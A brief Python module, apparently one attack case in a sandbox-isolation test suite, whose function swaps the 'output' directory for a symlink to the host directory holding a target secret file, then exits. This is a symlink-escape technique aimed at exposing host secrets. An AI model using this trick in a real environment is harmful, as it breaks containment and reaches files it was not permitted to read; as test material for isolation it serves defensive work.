"""Puts a link to a directory of the host in place of the directory of outputs."""

import os

from support.leaving import leave


def attack(target):
    os.rename("output", "moved")
    os.symlink(os.path.dirname(target["secret_file"]), "output")
    leave()
